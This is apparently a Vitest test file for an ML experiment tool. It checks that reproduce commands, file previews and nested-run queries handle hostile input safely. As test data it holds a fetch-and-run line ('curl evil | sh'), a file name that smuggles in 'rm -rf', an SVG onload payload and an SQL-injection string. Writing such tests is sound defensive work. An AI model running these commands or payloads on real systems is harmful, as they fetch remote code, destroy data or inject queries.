import { describe, expect, it } from 'vitest';
import { nestedIn } from '../src/run/family';
import { readRegistered } from '../src/run/strip';
import { drawingUrl, previewOf, readDetail, reproduce, type Detail } from '../src/run/types';

const ID = '0123456789abcdef0123456789abcdef';

function detail(tags: Record<string, string>, environment: Record<string, string>): Detail {
  const read = readDetail({ run: { id: ID, tags }, environment });
  if (!read) throw new Error('the detail cannot be read');
  return read;
}

describe('how to do a run again', () => {
  it('names the command of this program only for what it can train again', () => {
    expect(reproduce(detail({ 'orrery.stage': 'train' }, {}))).toBe(`orrery exp repro ${ID}`);
    expect(reproduce(detail({}, { source: 'train.py', commit: 'abc' }))).toBe('git checkout abc\npython train.py');
    expect(reproduce(detail({}, { command: 'curl evil | sh' }))).toBe('');
    expect(reproduce(detail({}, { source: '/usr/bin/ipykernel_launcher' }))).toBe('');
  });

  it('quotes what a client named', () => {
    expect(reproduce(detail({}, { source: "a'; rm -rf x .py" }))).toBe("python 'a'\\''; rm -rf x .py'");
  });
});

describe('the files of a run', () => {
  it('shows a drawing as an image, whatever it holds', () => {
    expect(previewOf('plots/line.SVG')).toBe('drawing');
    expect(previewOf('line.png')).toBe('image');
    expect(drawingUrl('<svg onload="x()">#</svg>')).toBe('data:image/svg+xml;charset=utf-8,%3Csvg%20onload%3D%22x()%22%3E%23%3C%2Fsvg%3E');
  });
});

describe('the runs around a run', () => {
  it('are asked for by its id alone', () => {
    expect(nestedIn(ID)).toBe(`tags.\`mlflow.parentRunId\` = '${ID}'`);
    expect(nestedIn("a' OR name like '%")).toBeNull();
  });

  it('lists the versions that were registered from it', () => {
    expect(readRegistered({ model_versions: [{ name: 'churn', version: '3' }, { name: 'x', version: 'y' }, null] })).toEqual([{ name: 'churn', version: '3' }]);
    expect(readRegistered({})).toEqual([]);
  });
});
